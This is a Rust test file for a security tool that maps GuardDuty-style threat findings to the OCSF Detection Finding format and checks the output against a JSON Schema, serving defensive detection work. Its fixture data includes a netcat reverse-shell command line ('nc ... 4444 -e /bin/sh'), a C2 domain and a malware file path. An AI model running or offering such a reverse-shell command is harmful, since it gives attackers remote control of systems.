//! OCSF output against a JSON Schema written from the OCSF 1.1.0 Detection
//! Finding class (tests/schemas/ocsf-detection-finding-2004.json), for every
//! resource shape and finding family, plus the mapping itself.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use saker_export::ocsf;
use saker_export::{ExportItem, FindingState};
use serde_json::{Value, json};
use support::*;

/// A way to break a valid output, and what it breaks.
type Breaker = (&'static str, fn(&mut Value));

fn validator() -> jsonschema::Validator {
    let schema: Value = serde_json::from_str(include_str!("schemas/ocsf-detection-finding-2004.json")).unwrap();
    jsonschema::draft202012::options().should_validate_formats(true).build(&schema).expect("the OCSF schema compiles")
}

fn assert_valid(v: &jsonschema::Validator, what: &str, out: &Value) {
    let errors: Vec<String> = v.iter_errors(out).map(|e| format!("{} at {}", e, e.instance_path())).collect();
    assert!(
        errors.is_empty(),
        "{what}: OCSF invalid:\n{}\n{}",
        errors.join("\n"),
        serde_json::to_string_pretty(out).unwrap()
    );
}

#[test]
fn every_shape_and_family_is_a_valid_detection_finding() {
    let v = validator();
    for (what, f) in all() {
        for state in [FindingState::New, FindingState::Updated, FindingState::Archived] {
            assert_valid(&v, what, &ocsf::detection_finding(&ExportItem::new(f.clone(), state), &ctx()));
        }
    }
}

#[test]
fn schema_rejects_broken_events() {
    let v = validator();
    let good = ocsf::detection_finding(&new(c2_ip_instance()), &ctx());
    assert_valid(&v, "baseline", &good);
    let broken: [Breaker; 7] = [
        ("wrong class", |o| o["class_uid"] = 2001.into()),
        ("type_uid disagrees with activity", |o| o["type_uid"] = 200402.into()),
        ("time as text", |o| o["time"] = "2026-11-28T14:31:07Z".into()),
        ("finding_info without uid", |o| drop(o["finding_info"].as_object_mut().unwrap().remove("uid"))),
        ("metadata without product", |o| drop(o["metadata"].as_object_mut().unwrap().remove("product"))),
        ("not an IP", |o| o["evidences"][0]["dst_endpoint"]["ip"] = "192.0.2.999".into()),
        ("attribute the class lacks", |o| o["finding"] = json!({})),
    ];
    for (what, breaker) in broken {
        let mut bad = good.clone();
        breaker(&mut bad);
        assert!(!v.is_valid(&bad), "the schema accepted: {what}");
    }
}

#[test]
fn class_activity_status_severity() {
    let created = ocsf::detection_finding(&new(c2_ip_instance()), &ctx());
    assert_eq!(created["class_uid"], 2004);
    assert_eq!(created["category_uid"], 2);
    assert_eq!(created["activity_id"], 1);
    assert_eq!(created["type_uid"], 200401);
    assert_eq!(created["status_id"], 1);
    assert_eq!(created["severity_id"], 4);
    assert_eq!(created["metadata"]["version"], "1.1.0");
    assert_eq!(created["metadata"]["product"]["name"], "Saker");
    assert_eq!(created["time"], 1_795_876_267_448_i64); // createdAt, ms
    assert_eq!(created["count"], 3);

    let updated = ocsf::detection_finding(&ExportItem::new(c2_ip_instance(), FindingState::Updated), &ctx());
    assert_eq!((updated["activity_id"].clone(), updated["type_uid"].clone()), (json!(2), json!(200402)));
    assert_eq!(updated["time"], 1_795_876_307_200_i64); // updatedAt

    let closed = ocsf::detection_finding(&ExportItem::new(c2_ip_instance(), FindingState::Archived), &ctx());
    assert_eq!((closed["activity_id"].clone(), closed["status_id"].clone()), (json!(3), json!(3)));
    assert_eq!(closed["type_uid"], 200403);

    let medium = ocsf::detection_finding(&new(hostile_host_behaviour()), &ctx());
    assert_eq!((medium["severity_id"].clone(), medium["severity"].clone()), (json!(3), json!("Medium")));
}

#[test]
fn finding_info_cloud_device() {
    let out = ocsf::detection_finding(&new(reverse_shell_ecs()), &ctx());
    let info = &out["finding_info"];
    assert_eq!(info["uid"], "4462ade31df9c05843dbecf8aed9615c");
    assert_eq!(info["types"], json!(["Execution:Runtime/ReverseShell"]));
    assert_eq!(info["analytic"]["type_id"], 1);
    assert_eq!(info["related_events"][0]["uid"], "fa082f8b-8dea-526b-966d-474b7fbf097c");
    assert_eq!(info["first_seen_time"], 1_795_876_267_436_i64);
    assert_eq!(
        out["cloud"],
        json!({ "provider": "AWS", "region": "eu-west-1",
        "account": { "uid": "123456789012", "type_id": 10, "type": "AWS Account" } })
    );
    assert_eq!(out["device"]["instance_uid"], "i-0a1b2c3d4e5f67890");
    assert_eq!(out["device"]["type_id"], 6);
    let types: Vec<&str> = out["resources"].as_array().unwrap().iter().map(|r| r["type"].as_str().unwrap()).collect();
    assert_eq!(types, ["AWS::ECS::Task", "Container", "AWS::EC2::Instance"]);
    assert_eq!(out["unmapped"]["saker"]["context"]["addressFamily"], "AF_INET");
}

#[test]
fn evidences_process_lineage_network_dns_files() {
    let out = ocsf::detection_finding(&new(reverse_shell_ecs()), &ctx());
    let p = &out["evidences"][0]["process"];
    assert_eq!(p["cmd_line"], "/bin/sh");
    assert_eq!(p["file"]["path"], "/bin/busybox");
    assert_eq!(p["file"]["hashes"][0]["algorithm_id"], 3);
    assert_eq!(p["parent_process"]["name"], "nc");
    assert_eq!(p["parent_process"]["cmd_line"], "nc 203.0.113.45 4444 -e /bin/sh");
    assert_eq!(p["parent_process"]["parent_process"]["name"], "python3");
    assert_eq!(p["lineage"][3], "/usr/lib/systemd/systemd");
    assert_eq!(out["evidences"][0]["dst_endpoint"], json!({ "ip": "203.0.113.45", "port": 4444 }));
    assert_eq!(out["evidences"][0]["connection_info"]["protocol_num"], 6);

    let out = ocsf::detection_finding(&new(tor_relay_inbound_v6()), &ctx());
    assert_eq!(out["evidences"][0]["src_endpoint"]["ip"], "2001:db8::9");
    assert_eq!(out["evidences"][0]["connection_info"]["direction_id"], 1);
    assert_eq!(out["evidences"][0]["connection_info"]["protocol_ver_id"], 6);

    let out = ocsf::detection_finding(&new(c2_dns_container()), &ctx());
    assert_eq!(out["evidences"][0]["query"]["hostname"], "c2.guarddutyc2activityb.com");
    assert!(
        out["observables"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o["type_id"] == 1 && o["value"] == "c2.guarddutyc2activityb.com")
    );

    let out = ocsf::detection_finding(&new(malicious_file_eks()), &ctx());
    let file = &out["evidences"][1]["file"];
    assert_eq!(file["path"], "/tmp/.x/kworker");
    assert_eq!(file["name"], "kworker");
    assert_eq!(file["hashes"][0]["value"], "0d5f7a9c3e1b2a4c6e8f0a1b3c5d7e9f2a4b6c8d0e1f3a5b7c9d1e3f5a7b9c0d");
    assert_eq!(out["evidences"][0]["data"]["threatIntelligenceDetails"][0]["threatListName"], "malware-hashes");
}
